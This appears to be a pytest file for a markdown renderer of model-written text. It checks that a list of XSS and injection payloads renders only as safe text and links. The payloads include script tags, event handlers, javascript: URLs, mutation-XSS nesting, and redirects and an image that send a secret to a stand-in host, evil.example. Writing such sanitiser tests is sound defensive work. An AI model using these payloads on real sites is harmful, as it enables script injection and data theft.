from __future__ import annotations

import re
from html.parser import HTMLParser

import pytest

from hanlin.web.markdown import ATTRIBUTES, TAGS, render

ATTACKS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "![x](https://evil.example/?q=secret)",
    "![x](data:image/svg+xml;base64,PHN2Zz4=)",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\nscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:msgbox(1))",
    "[x](//evil.example)",
    "[x](/sign-out)",
    "[x](http://ok.example 'onmouseover=alert(1)')",
    '[x](http://ok.example" onmouseover="alert(1))',
    "<a href='javascript:alert(1)'>x</a>",
    "<https://ok.example/?<script>alert(1)</script>>",
    "<javascript:alert(1)>",
    "<div hx-get='/x' hx-trigger='load' data-hx-on:click='alert(1)'>x</div>",
    "<form action=/sign-out method=post><button>x</button></form>",
    "<style>*{display:none}</style>",
    "<p style='position:fixed;inset:0'>x</p>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "```html\n</code></pre><script>alert(1)</script>\n```",
    '```" onload="alert(1)\nx\n```',
    "```<img src=x onerror=alert(1)>\nx\n```",
    "`<script>alert(1)</script>`",
    "| a |\n|:-:|\n| <img src=x onerror=alert(1)> |",
    "[a]: javascript:alert(1)\n[a]",
    "[a]: https://ok.example\n![a]",
    "x\0<scr\0ipt>alert(1)</script>",
    "<!--<img src='--><img src=x onerror=alert(1)//'>",
    "\u202e<script>\u202calert(1)</script>",
    "<details open ontoggle=alert(1)>",
    "<base href=//evil.example>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<input autofocus onfocus=alert(1)>",
    "[" * 2000 + "x" + "](javascript:alert(1))" * 2000,
    "> " * 500 + "<script>alert(1)</script>",
]


class Elements(HTMLParser):
    def __init__(self, html: str) -> None:
        super().__init__()
        self.found: list[tuple[str, dict[str, str | None]]] = []
        self.feed(html)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, dict(attrs)))


@pytest.mark.parametrize("attack", ATTACKS)
def test_nothing_a_model_writes_becomes_more_than_text_and_links(attack: str) -> None:
    for tag, attributes in Elements(render(attack)).found:
        assert tag in TAGS
        assert set(attributes) <= ATTRIBUTES.get(tag, set()) | ({"rel", "target"} if tag == "a" else set())
        href = attributes.get("href")
        assert href is None or re.match(r"(https?://|mailto:)", href)
        assert re.fullmatch(r"[\w+#.-]{0,40}", attributes.get("class") or "")


def test_an_image_is_shown_as_a_link_with_its_words() -> None:
    assert "<img" not in render("![a cat](https://example.org/cat.png)")
    assert '<a href="https://example.org/cat.png"' in render("![a cat](https://example.org/cat.png)")
    assert ">a cat</a>" in render("![a cat](https://example.org/cat.png)")


def test_a_link_opens_elsewhere_and_tells_nothing() -> None:
    assert render("[x](https://example.org)") == (
        '<p><a href="https://example.org" target="_blank" rel="noopener noreferrer nofollow">x</a></p>\n'
    )


def test_code_is_coloured_by_classes_alone() -> None:
    html = render("```python\ndef f(): pass\n```")
    assert '<span class="k">def</span>' in html
    assert "style" not in html


def test_code_of_an_unknown_language_or_great_length_stays_plain() -> None:
    assert render("```klingon\nqapla'\n```") == '<pre><code class="language-klingon">qapla\'\n</code></pre>\n'
    code = "x = 1\n" * 10_000
    assert "<span" not in render(f"```python\n{code}```")


def test_tables_keep_their_alignment_as_an_attribute() -> None:
    html = render("| a | b |\n|---|--:|\n| 1 | 2 |")
    assert '<td align="right">2</td>' in html
    assert "<td>1</td>" in html
